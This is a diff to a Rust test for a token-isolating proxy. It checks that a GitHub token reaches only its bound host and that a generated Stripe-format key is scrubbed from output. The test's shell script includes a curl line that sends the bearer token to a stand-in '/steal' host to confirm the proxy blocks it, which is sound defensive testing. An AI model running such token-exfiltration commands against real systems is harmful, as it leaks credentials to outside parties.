@@ -229,9 +229,15 @@ fn curl_with_a_handle_reaches_the_bound_host_with_the_real_token_only() {
     let good = f.url("api.github.test", "/user");
     let bad = f.url("other.test", "/steal");
     let echo = f.url("api.github.test", "/echo");
+    // A Stripe-format key built here (no token-shaped literal in the
+    // repository; an `EXAMPLE` body is a documentation value the scrubber
+    // leaves alone).
+    let stripe: String = (0..24usize)
+        .map(|i| char::from(b"Q7mZ2kR9xT4vB8nL3pW6yC5hJ1dF0gS"[(5 + i * 7 + i * i) % 31]))
+        .collect();
     let script = format!(
         "echo \"handle=$GITHUB_TOKEN\"\n\
-         echo 'leak sk_live_EXAMPLEEXAMPLEEXAMPLE1234'\n\
+         echo 'leak sk_live_{stripe}'\n\
          curl -sS --max-time 10 -H \"Authorization: Bearer $GITHUB_TOKEN\" '{good}'\n\
          curl -sS --max-time 10 -o /dev/null -D - -H \"Authorization: Bearer $GITHUB_TOKEN\" '{bad}' | tr -d '\\r' | grep -i -E '^(HTTP|x-airlock-reason)'\n\
          curl -sS --max-time 10 -D - -H \"Authorization: Bearer $GITHUB_TOKEN\" '{echo}' | tr -d '\\r'\n"
